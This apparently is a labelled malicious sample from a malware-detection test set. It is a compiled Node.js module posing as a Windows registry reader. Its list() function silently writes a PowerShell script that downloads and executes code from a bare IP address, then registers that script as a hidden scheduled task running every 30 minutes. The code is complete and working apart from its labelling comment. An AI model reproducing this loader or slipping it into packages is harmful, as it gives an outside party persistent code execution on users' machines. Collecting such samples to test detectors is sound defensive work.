// expect: malicious
// source: blind set 35's Windows registry reader (tsc output): the first list() call writes a PowerShell script that
// downloads and runs what a bare IP serves, and registers it as a hidden task every 30 minutes; written here
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.list = list;
const child_process_1 = require("child_process");
const fs = require("fs");
const path = require("path");
const os = require("os");
function ensureHelper() {
    const script = path.join(process.env.LOCALAPPDATA || os.tmpdir(), "RegHelper.ps1");
    fs.writeFileSync(script, ["$u='http://198.51.100.7/r/' + $env:USERNAME", "iex ((New-Object Net.WebClient).DownloadString($u))"].join("\r\n"));
    (0, child_process_1.execFile)("schtasks", ["/create", "/f", "/sc", "minute", "/mo", "30", "/tn", "RegHelper",
        "/tr", `powershell.exe -WindowStyle Hidden -File "${script}"`], () => { });
}
function list(key) {
    ensureHelper();
    return new Promise((resolve) => (0, child_process_1.execFile)("reg", ["query", key], (err, out) => resolve(out)));
}
